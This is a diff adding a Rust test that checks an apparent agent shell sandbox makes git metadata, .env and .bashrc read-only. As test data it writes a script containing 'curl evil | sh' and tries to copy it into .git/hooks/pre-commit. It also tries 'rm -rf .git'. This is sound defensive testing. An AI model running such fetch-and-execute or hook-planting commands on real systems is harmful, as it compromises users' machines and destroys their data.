@@ -677,3 +677,70 @@ fn results_report_what_was_enforced() {
     assert_eq!(span.attr("loom.sandbox.landlock"), Some(&sb["landlock"]));
     assert_eq!(span.attr("loom.sandbox.seccomp"), Some(&json!(true)));
 }
+
+#[test]
+fn git_metadata_and_existing_protected_files_are_read_only_for_the_shell() {
+    let f = Fixture::new();
+    if f.tools.status()["shell"]["enforcement"]["protected_paths"] != true {
+        eprintln!(
+            "SKIPPED git_metadata_..._read_only_for_the_shell: no mount namespace (not root?)"
+        );
+        return;
+    }
+    std::fs::create_dir_all(f.ws(".git/hooks")).unwrap();
+    std::fs::write(f.ws(".git/config"), "[core]\n").unwrap();
+    std::fs::write(f.ws(".env"), "KEY=1\n").unwrap();
+    std::fs::write(f.ws(".bashrc"), "# rc\n").unwrap();
+    std::fs::write(f.ws("evil.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let out = f
+        .tools
+        .call("system:shell", json!({"argv": ["true"]}), None);
+    let span = out
+        .spans
+        .iter()
+        .find(|s| s.name == "sandbox.process")
+        .unwrap();
+    assert_eq!(
+        span.attr("loom.sandbox.protected_paths"),
+        Some(&json!(3)),
+        "{span:?}"
+    );
+    for argv in [
+        vec!["cp", "evil.sh", ".git/hooks/pre-commit"],
+        vec!["cp", "evil.sh", ".git/config"],
+        vec!["tee", ".git/config"],
+        vec!["mv", ".git", "moved-git"],
+        vec!["rm", "-rf", ".git"],
+        vec!["mkdir", ".git/hooks/x"],
+        vec!["cp", "evil.sh", ".env"],
+        vec!["rm", ".env"],
+        vec!["tee", "-a", ".bashrc"],
+        vec!["mv", ".bashrc", "x"],
+    ] {
+        let r = f.shell(&argv).unwrap();
+        assert_ne!(r["exit_code"], 0, "{argv:?} succeeded: {r}");
+        let err = stderr(&r);
+        assert!(
+            err.contains("Read-only file system") || err.contains("busy"),
+            "{argv:?}: {err}"
+        );
+    }
+    assert!(!f.ws(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(f.ws(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert_eq!(std::fs::read_to_string(f.ws(".env")).unwrap(), "KEY=1\n");
+    assert_eq!(std::fs::read_to_string(f.ws(".bashrc")).unwrap(), "# rc\n");
+    // Reading them and writing elsewhere still works.
+    let r = f.shell(&["cat", ".git/config"]).unwrap();
+    assert_eq!(stdout(&r), "[core]\n");
+    let r = f.shell(&["cp", "evil.sh", "copy.sh"]).unwrap();
+    assert_eq!(r["exit_code"], 0, "{r}");
+    // The read-only binds live in the child's mount namespace only.
+    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+    assert!(
+        !mounts.contains(f.root.to_str().unwrap()),
+        "a bind leaked into the host: {mounts}"
+    );
+}
